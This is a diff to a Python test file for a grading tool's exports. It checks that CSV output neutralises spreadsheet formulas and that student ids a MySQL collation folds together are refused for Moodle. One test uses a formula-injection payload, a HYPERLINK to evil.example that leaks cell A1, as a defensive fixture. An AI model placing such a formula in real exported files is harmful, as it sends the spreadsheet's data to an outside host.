@@ -488,9 +488,10 @@ def test_ordinary_ids_are_not_formulas() -> None:
 def test_export_csv_neutralises_as_the_gradebook_does(tmp_path: Path) -> None:
     """``knockout export --format csv`` wrote a formula-leading id raw where the gradebook neutralised it; both
     now go through the one function."""
-    from knockout.reports import _export, _gradebook
+    from knockout.data import _csv
+    from knockout.reports import _gradebook
 
-    assert _export.neutralise is _gradebook.neutralise
+    assert _gradebook.neutralise is _csv.neutralise  # export writes through _csv's Writer (tests/test_csv_writers)
     question = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
     db = exam_store(tmp_path, ["ada", "\uff20ben"], question=question)
     rows = list(csv.DictReader(io.StringIO(cli("export", str(db), "--format", "csv")[0], newline="")))
@@ -515,3 +516,43 @@ def test_an_id_column_that_is_not_a_text_is_refused(value: object, tmp_path: Pat
         out, err = cli("gradebook", str(db), "--format", fmt, "--id-column", "email", code=2)
         line = one_error(err)
         assert out == "" and "exam.jsonl" in line and "a1" in line and "meta.email" in line, line
+
+
+# -- ids as the LMS's database compares them (issue 60 item 2) ----------------------------------------------------
+
+#: pairs MySQL's utf8mb4_unicode_ci and utf8mb4_0900_ai_ci (the UCA at primary strength) fold together and NFD does
+#: not: strokes, ligatures; and (utf8mb4_unicode_ci only) characters beyond the BMP, which all weigh as U+FFFD
+UCA_PAIRS = [("bjorn", "bj\u00f8rn"), ("lodz", "\u0142odz"), ("caesar", "c\u00e6sar"), ("dan", "\u0111an"),
+             ("hana", "\u0127ana"), ("oeuvre", "\u0153uvre"), ("strasse", "stra\u00dfe"),
+             ("kim\U0001f363", "kim\U0001f37a"), ("lee\U00020000", "lee\U0002a6d6")]
+
+
+@pytest.mark.parametrize(("a", "b"), UCA_PAIRS, ids=[ascii(b) for _, b in UCA_PAIRS])
+def test_ids_the_uca_folds_are_refused_for_moodle(a: str, b: str, tmp_path: Path) -> None:
+    """Before: the check folded accents by NFD, so bjorn/bjørn, lodz/łodz, caesar/cæsar and kim🍣/kim🍺 became two
+    Moodle rows, one user in MySQL's collation."""
+    db = exam_store(tmp_path, [a, b])
+    out, err = cli("gradebook", str(db), "--format", "moodle", code=2)
+    line = one_error(err)
+    assert out == "" and repr(a) in line and repr(b) in line and "same to the LMS" in line, line
+    rows = list(csv.reader(io.StringIO(cli("gradebook", str(db))[0], newline="")))  # the plain layout: both
+    assert {a, b} <= {r[0] for r in rows[1:]}
+
+
+def test_the_collations_keys() -> None:
+    from knockout.reports._gradebook import collation_key
+
+    def same(a: str, b: str, c: str) -> bool:
+        return bool(collation_key(a, c) == collation_key(b, c))
+
+    assert same("kim\U0001f363", "kim\U0001f37a", "utf8mb4_unicode_ci")  # supplementary: all as U+FFFD
+    assert not same("kim\U0001f363", "kim\U0001f37a", "utf8mb4_0900_ai_ci")  # 9.0.0 weighs emoji apart
+    for c in ("utf8mb4_unicode_ci", "utf8mb4_0900_ai_ci"):
+        assert same("Bj\u00f8rn", "BJORN", c) and same("\uff41lice", "alice", c) and same("a\u200bb", "ab", c)
+        assert same(" ada\u00a0", "ada", c)  # the importer's trim
+        assert not same("a-b", "ab", c) and not same("kim", "kim\U0001f363", c) and not same("ann", "anna", c)
+
+
+def test_distinct_ids_pass_every_collation(tmp_path: Path) -> None:
+    db = exam_store(tmp_path, ["bjorn", "bjork", "a-b", "ab", "kim"])
+    assert cli("gradebook", str(db), "--format", "moodle", "--write-empty")[0].count("\n") == 6
